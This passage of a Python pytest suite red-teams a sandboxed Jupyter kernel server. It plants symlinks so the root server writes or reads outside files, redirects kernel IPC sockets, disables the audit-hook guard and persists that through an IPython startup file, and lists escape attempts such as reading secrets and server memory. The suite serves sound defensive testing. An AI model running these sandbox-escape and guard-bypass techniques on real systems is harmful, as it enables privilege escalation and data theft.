    a = await attack(world, t, "guard", textwrap.dedent(_AFTER_BYPASS) + textwrap.dedent(code), tag,
                     category="guard-bypass", name=name, role="bypass")
    try:
        await assert_untouched(world, t, a)  # ("SUCCEEDED" in a.result only means a call returned; the side effects judge)
    finally:
        if dirty:  # this technique leaves the guard disarmed in that kernel: start a fresh one
            await t.h.call("restart_session", session=t.handles["bypass"])


# =================================================================================================
# 10. The server as confused deputy: it runs as root outside every sandbox and writes/reads files in
#     the session directory, which the kernel can write. Plant symlinks there, then let the server act.
# =================================================================================================
_PLANT = """
    # main interpreter (IPython's state lives there)
    os = M('os')
    sd = P['session_dir']
    target = P['new'] if P['_mode'] == 'os' else P['ro_new']  # the guard only lets a symlink point at a readable path
    ec = M('IPython').get_ipython().execution_count
    stems = ['cell%d-%d' % (n, s) for n in range(ec - 1, ec + 3) for s in range(P['seq'], P['seq'] + 4)]
"""
SERVER_DEPUTY: dict[str, tuple[str, str]] = {
    # the journal is appended (open(..., 'a')) by the server after every call, this very call included
    "journal.jsonl-symlink": (_PLANT + """
    os.remove(sd + '/journal.jsonl')
    os.symlink(target, sd + '/journal.jsonl')
    """, ""),
    # stdout longer than --stream-chars is written by the server to outputs/<stem>-stdout.txt
    "outputs-stdout-spill-symlink": (_PLANT + """
    for stem in stems:
        os.symlink(target, sd + '/outputs/' + stem + '-stdout.txt')
    """, "print('* * * * * root cron line or authorized_keys entry of the attacker\\n' + '#' * 30000)"),
    # a result longer than --result-chars is written to outputs/<stem>-result.{json,txt}
    "outputs-result-spill-symlink": (_PLANT + """
    for stem in stems:
        for ext in ('json', 'txt'):
            os.symlink(target, sd + '/outputs/' + stem + '-result.' + ext)
    """, "'attacker-chosen content ' * 400"),
    # every rich output is written to outputs/<stem>-out<i>.<ext>, byte for byte what the kernel sent
    "outputs-rich-output-symlink": (_PLANT + """
    for stem in stems:
        for i in range(3):
            os.symlink(target, sd + '/outputs/' + stem + '-out%d.html' % i)
    """, "display({'text/html': '<!-- exact attacker bytes -->'}, raw=True)"),
}


def _heal(session_dir: Path) -> None:
    """Undo what a deputy attack planted in a session directory (the server needs it afterwards)."""
    for path in [session_dir / "journal.jsonl", session_dir / "kernel.log", session_dir / "outputs", *session_dir.glob("outputs/*")]:
        if path.is_symlink():
            path.unlink()
    (session_dir / "outputs").mkdir(exist_ok=True)


def _deputy_cases() -> list[Any]:
    return [pytest.param(profile, mode, name, id=f"{profile}-{mode}-{name}") for name in SERVER_DEPUTY for profile in PROFILES for mode in MODES]


@pytest.mark.parametrize(("profile", "mode", "name"), _deputy_cases())
async def test_server_writes_through_planted_symlinks(world: World, targets: dict[str, Target], profile: str, mode: str, name: str) -> None:
    t = targets[profile]
    plant, trigger = SERVER_DEPUTY[name]
    seq = t.h.sessions.sessions[t.handles[mode]].renderer._seq  # = the attacker's count of its own calls
    tag = f"{name}-{profile}-{mode}-{secrets.token_hex(3)}"
    try:
        a = await attack(world, t, mode, plant, tag, category="server-deputy", name=name,
                         extra={"_mode": mode, "seq": seq + 1, "_main": True})
        if trigger:
            a.answer = {"plant": a.answer, "trigger": await t.h.run(trigger, session=t.handles[mode])}
        await assert_untouched(world, t, a)
    finally:
        _heal(t.dirs[mode])


@pytest.mark.parametrize(("profile", "mode"), [(p, m) for p in PROFILES for m in MODES])
async def test_server_resource_read_through_planted_outputs_symlink(world: World, targets: dict[str, Target], profile: str, mode: str) -> None:
    """outputs/ replaced by a symlink to an outside directory; then the client reads a session file resource."""
    t = targets[profile]
    plant = """
        os = M('os')
        sd = P['session_dir']
        os.rename(sd + '/outputs', sd + '/outputs.old')
        os.symlink(P['secret_dir'], sd + '/outputs')
    """
    try:
        a = await attack(world, t, mode, plant, f"res-{profile}-{mode}-{secrets.token_hex(3)}", category="server-deputy",
                         name="outputs-dir-symlink+resource-read")
        try:
            got = await t.h.client.read_resource(f"kernelexec://sessions/{t.handles[mode]}/files/secret.txt")
            a.answer = {"attack": a.answer, "resource": repr(got)}
        except Exception as exc:  # noqa: BLE001 - refused is the good outcome
            a.answer = {"attack": a.answer, "resource": repr(exc)}
        await assert_untouched(world, t, a)
    finally:
        d = t.dirs[mode]
        _heal(d)
        if (d / "outputs.old").is_dir() and not any((d / "outputs").iterdir()):
            (d / "outputs").rmdir()
            (d / "outputs.old").rename(d / "outputs")


async def _throwaway(t: Target) -> tuple[str, Path]:
    handle = await t.h.new_session()
    r = await t.h.run("1", session=handle)
    return handle, Path(r["notebook"]).parent


@pytest.mark.parametrize(("profile", "mode"), [(p, m) for p in PROFILES for m in MODES])
async def test_server_close_session_writes_through_planted_symlink(world: World, targets: dict[str, Target], profile: str, mode: str) -> None:
    """close_session writes .session.json.tmp (write_text follows symlinks) before renaming it over session.json."""
    t = targets[profile]
    handle, d = await _throwaway(t)
    t.handles["throwaway"], t.dirs["throwaway"] = handle, d
    plant = """
        os = M('os')
        target = P['new'] if P['_mode'] == 'os' else P['ro_new']
        os.symlink(target, P['session_dir'] + '/.session.json.tmp')
    """
    a = await attack(world, t, mode, plant, f"close-{profile}-{mode}-{secrets.token_hex(3)}", category="server-deputy",
                     name=".session.json.tmp-symlink+close_session", role="throwaway", extra={"_mode": mode})
    closed = await t.h.call("close_session", session=handle)
    a.answer = {"attack": a.answer, "close": repr(closed.content)}
    await assert_untouched(world, t, a)


@pytest.mark.parametrize(("profile", "mode"), [("standard", "guard"), ("standard", "os"), ("strict", "os")])
async def test_server_reconnects_through_planted_ipc_symlinks(world: World, targets: dict[str, Target], profile: str, mode: str) -> None:
    """The kernel's zmq sockets live in its writable ipc/ directory and the server's client connects to them
    by path. Replace each socket file with a symlink to a host unix socket, then die: while the server notices
    and restarts the kernel, libzmq in the *server* (root, unsandboxed) reconnects through the symlinks."""
    t = targets[profile]
    plant = """
        # main interpreter (the kernel's own connection info)
        os = M('os'); json = M('json')
        conn = json.load(open(P['session_dir'] + '/kernel.json'))
        for name in ('shell', 'iopub', 'control', 'hb', 'stdin'):
            path = '%s-%d' % (conn['ip'], conn[name + '_port'])
            os.remove(path)
            os.symlink(P['unix'], path)
        os._exit(1)
    """
    caught: list[str] = []

    async def watch() -> None:  # accept (and close) at once, or the server's client hangs in a ZMTP handshake for 30 s
        while True:
            caught.extend(drain(world.unix))
            await anyio.sleep(0.05)

    async with anyio.create_task_group() as tg:
        tg.start_soon(watch)
        a = await attack(world, t, mode, plant, f"ipc-{profile}-{mode}-{secrets.token_hex(3)}", category="server-deputy",
                         name="ipc-socket-symlinks+die", extra={"_main": True})
        await anyio.sleep(0.5)  # zmq's reconnect interval is 0.1 s
        tg.cancel_scope.cancel()
    assert not caught, f"[{mode}] {a.result}\nthe server connected to the host unix socket through the kernel's symlinks: {caught}"
    await assert_untouched(world, t, a)


@pytest.mark.parametrize("mode", MODES)
async def test_server_kernel_log_symlink_and_failed_restart(world: World, targets: dict[str, Target], mode: str) -> None:
    """kernel.log -> an outside file, an IPython startup file that writes to stderr and makes every later start
    fail, then die. On the failed restart the server opens kernel.log again ('ab', following the symlink) as the
    new kernel's stderr, and quotes the file's tail in the error it returns. (standard profile: strict adds nothing)"""
    t = targets["standard"]
    handle, d = await _throwaway(t)
    t.handles["throwaway"], t.dirs["throwaway"] = handle, d
    token = f"KXRTVICTIM{secrets.token_hex(10)}"
    # guard mode: the guard lets a symlink point at any readable path (--read-dirs, the venv, the stdlib)
    victim = (world.ro_dir if mode == "guard" else world.root) / f"victim-{secrets.token_hex(4)}.txt"
    victim.write_text(f"host file with a secret: {token}\n")
    plant = """
        os = M('os')
        sd = P['session_dir']
        os.remove(sd + '/kernel.log')
        os.symlink(P['victim'], sd + '/kernel.log')
        startup = sd + '/home/.ipython/profile_default/startup'
        os.makedirs(startup, exist_ok=True)
        open(startup + '/00-die.py', 'w').write('import os\\nos.write(2, b"kxrt: appended by the sandboxed kernel\\\\n")\\nos._exit(3)\\n')
        out = 'planted'
    """
    try:
        a = await attack(world, t, mode, plant, f"log-{mode}-{secrets.token_hex(3)}", category="server-deputy",
                         name="kernel.log-symlink+failed-restart", role="throwaway", extra={"victim": str(victim)})
        if "planted" in a.result:  # (when the plant was refused there is nothing for the server to follow)
            died = await t.h.client.call_tool("execute_code", {"code": "import os; os._exit(1)", "session": handle, "timeout": 60})
            a.answer = {"attack": a.answer, "death": repr(died.content), "structured": died.structured_content}
        text = json.dumps(a.answer)
        problems = []
        if token in text:
            problems.append("LEAK: the outside file's content appears in the answer (kernel.log tail)")
        if victim.read_text() != f"host file with a secret: {token}\n":
            problems.append(f"the outside file was written by the server on the kernel's behalf: {victim.read_text()!r}")
        world.inotify.events()  # the victim's own events are judged by the two checks above
        assert not problems, f"{a.result}\n" + "\n".join(problems)
        await assert_untouched(world, t, a)
    finally:
        victim.unlink(missing_ok=True)
        _heal(d)
        try:
            await t.h.call("close_session", session=handle)
        except Exception:  # noqa: BLE001
            pass


@pytest.mark.parametrize("profile", PROFILES)
async def test_guard_bypass_persisted_by_an_ipython_startup_file(world: World, targets: dict[str, Target], profile: str) -> None:
    """IPYTHONDIR is inside the (writable) session dir and IPython runs profile startup files *before* the
    kernel's exec_files (kernel_init.py). A planted file that shadows sys.addaudithook means every later kernel
    of the session, restarts included, starts without the audit hook while still reporting its policy active."""
    t = targets[profile]
    plant = """
        g = M('sys').modules['_kernelexec_guard']  # (strict refuses writes: switch the file checks off first)
        g._WRITE_EVENTS = g._TWO_PATH_EVENTS = frozenset(); g._norm = lambda p: None
        d = P['session_dir'] + '/home/.ipython/profile_default/startup'
        M('os').makedirs(d, exist_ok=True)
        open(d + '/00-kxrt.py', 'w').write('import sys\\nsys.addaudithook = lambda hook: None\\n')
        out = 'planted'
    """
    planted = t.dirs["bypass"] / "home/.ipython/profile_default/startup/00-kxrt.py"
    try:
        await attack(world, t, "guard", plant, f"startup-{profile}", category="guard-bypass", name="ipython-startup-file",
                     role="bypass")
        assert planted.exists()
        await t.h.call("restart_session", session=t.handles["bypass"])
        a = await attack(world, t, "guard", textwrap.dedent(_AFTER_BYPASS) + "out = _attempts()",
                         f"startup-{profile}-{secrets.token_hex(3)}", category="guard-bypass",
                         name="ipython-startup-file (after restart)", role="bypass")
        await assert_untouched(world, t, a)
    finally:
        planted.unlink(missing_ok=True)
        await t.h.call("restart_session", session=t.handles["bypass"])



# =================================================================================================
# 11. The same attacks on a machine without bubblewrap and without a network namespace (a non-root
#     server where user namespaces are disabled, e.g. Ubuntu 24.04's AppArmor userns restriction).
#     Landlock is there, so the server starts strict/standard without --allow-degraded. os mode only:
#     the guard (which refuses every socket but AF_UNIX creation) is switched off, as before.
# =================================================================================================
@pytest.fixture(scope="module")
async def no_bwrap(world: World, short_tmp: Path) -> AsyncIterator[Target]:
    import dataclasses

    import kernelexec.sandbox as sandbox_mod
    import kernelexec.sessions as sessions_mod

    settings = make_settings(short_tmp, profile="standard", read_dirs=[world.ro_dir])
    real_plan_for = sessions_mod.plan_for

    def plan_for(s: Any, profile: Any, **kwargs: Any) -> Any:
        if s.state_dir != settings.state_dir:
            return real_plan_for(s, profile, **kwargs)
        real_probe = sandbox_mod.probe
        features = dataclasses.replace(real_probe(), bwrap=None, netns=False)
        sandbox_mod.probe = lambda: features  # only while planning this server's kernels (synchronous)
        try:
            return real_plan_for(s, profile, **kwargs)
        finally:
            sandbox_mod.probe = real_probe

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(sessions_mod, "plan_for", plan_for)
        h, cm = await start_harness(settings)
        t = Target(profile="standard", h=h, cm=cm, state_dir=settings.state_dir)
        try:
            await open_sessions(t, roles=("os", "b"))
            r = await h.run("1", session=t.handles["os"])
            assert "bubblewrap" not in r["layers"] and "netns" not in r["layers"], r["layers"]
            assert any(layer.startswith("landlock") for layer in r["layers"]) and "seccomp" in r["layers"], r["layers"]
            yield t
        finally:
            await h.client.__aexit__(None, None, None)
            await cm.__aexit__(None, None, None)


NO_BWRAP: dict[str, str] = {
    "read-secret": FILE_READS["open"],
    "write-outside": FILE_WRITES["open-w"],
    "modify-readonly": FILE_WRITES["open-a-readonly-canary"],
    "proc-server-environ": FILE_READS["proc-server-environ"],
    "tcp-connect": NETWORK["tcp-connect"],
    # Landlock's CONNECT_TCP hook is on connect(); sendto(MSG_FASTOPEN) connects without it (kernel 6.18)
    "tcp-fastopen-sendto": NETWORK["tcp-fastopen-sendto"],
    "udp-sendto": NETWORK["udp-sendto"],
    "abstract-unix": NETWORK["abstract-unix"],
    # Landlock ABI 7 has no right for connect() on pathname unix sockets: a mount namespace hid them
    "pathname-unix-host-socket": NETWORK["pathname-unix-host-socket"],
    "raw-unix-connect-b-sockets": CROSS_SESSION["raw-unix-connect-b-sockets"],
    "zmq-hb-echo-b": CROSS_SESSION["zmq-hb-echo"],
    "zmq-shell-execute-in-b": CROSS_SESSION["zmq-shell-execute-in-b"],
    "open-b-file": CROSS_SESSION["open-b-file"],
    "kill-server": SIGNALS["kill-SIGUSR1"],
    "kill-server-0": SIGNALS["kill-0-probe"],
    "os.fork": SUBPROCESS["os.fork"],
    "process_vm_readv-server": OTHER_PROCESSES["process_vm_readv-server-memory"],
}


@pytest.mark.parametrize("name", list(NO_BWRAP))
async def test_without_bubblewrap_or_netns(world: World, no_bwrap: Target, name: str) -> None:
    t = no_bwrap
    tag = f"nobwrap-{name}-{secrets.token_hex(3)}"
    a = await attack(world, t, "os", NO_BWRAP[name], tag, category="no-bwrap", name=name,
                     extra={"_main": True} if NO_BWRAP[name].lstrip().startswith("# main interpreter") else None)
    await assert_untouched(world, t, a)
    r = await t.h.run("bsecret", session=t.handles["b"])
    assert r["result"] == t.b_var_secret, f"{a.result}: session B's variable changed: {r}"
